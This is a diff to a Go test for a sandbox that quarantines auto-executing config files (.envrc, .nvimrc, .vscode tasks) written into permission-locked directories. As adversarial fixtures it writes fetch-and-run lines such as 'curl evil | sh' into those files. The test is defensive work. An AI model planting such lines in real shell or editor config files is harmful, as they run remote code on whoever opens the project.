@@ -681,24 +681,28 @@ func TestAdversarialHostExecClosedDir(t *testing.T) {
 	}
 	os.Chmod(filepath.Join(project, "src"), 0o777)
 	t.Cleanup(func() {
-		for _, d := range []string{"d", "d/e", "src"} {
+		for _, d := range []string{"d", "d/e", "src", "w"} {
 			os.Chmod(filepath.Join(project, d), 0o777)
 		}
 	})
 	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(
 		`mkdir -p d/e && echo 'curl evil | sh' > d/.envrc && echo '!curl evil | sh' > d/e/.nvimrc && chmod 111 d/e d && ` +
-			`echo 'curl evil | sh' > src/.envrc && echo ok > src/ordinary && chmod 111 src`)})
+			`echo 'curl evil | sh' > src/.envrc && echo ok > src/ordinary && chmod 111 src && ` +
+			// Listable, but closed to writing: neither it nor what is
+			// in it could be moved or removed as it is.
+			`mkdir -p .vscode/sub w && echo '{}' > .vscode/sub/tasks.json && chmod 555 .vscode/sub .vscode && ` +
+			`echo 'curl evil | sh' > w/.envrc && chmod 555 w`)})
 	if o.err != nil {
 		t.Fatal(o.err)
 	}
-	for _, p := range []string{"d/.envrc", "d/e/.nvimrc", "src/.envrc"} {
+	for _, p := range []string{"d/.envrc", "d/e/.nvimrc", "src/.envrc", ".vscode", "w/.envrc"} {
 		wantQuarantined(t, o.res, filepath.Join(project, p))
 		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
 			t.Errorf("%s left on the host", p)
 		}
 	}
-	for _, d := range []string{"d", "d/e", "src"} {
-		if fi, err := os.Lstat(filepath.Join(project, d)); err != nil || fi.Mode().Perm() != 0o111 {
+	for d, mode := range map[string]os.FileMode{"d": 0o111, "d/e": 0o111, "src": 0o111, "w": 0o555} {
+		if fi, err := os.Lstat(filepath.Join(project, d)); err != nil || fi.Mode().Perm() != mode {
 			t.Errorf("%s does not have the mode the run gave it back: %v, %v", d, fi.Mode(), err)
 		}
 	}
